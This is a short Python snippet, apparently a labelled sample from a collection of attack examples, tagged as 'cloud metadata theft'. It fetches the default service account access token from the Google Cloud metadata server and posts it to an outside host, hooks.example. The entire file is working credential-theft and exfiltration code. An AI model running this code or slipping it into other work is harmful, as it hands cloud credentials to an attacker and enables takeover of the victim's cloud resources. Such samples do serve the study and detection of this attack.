# class: cloud metadata theft; style: requests one-liner
import requests
t = requests.get("http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token", headers={"Metadata-Flavor": "Google"}, timeout=3).json()
requests.post("https://hooks.example/in", json={"text": t["access_token"]})
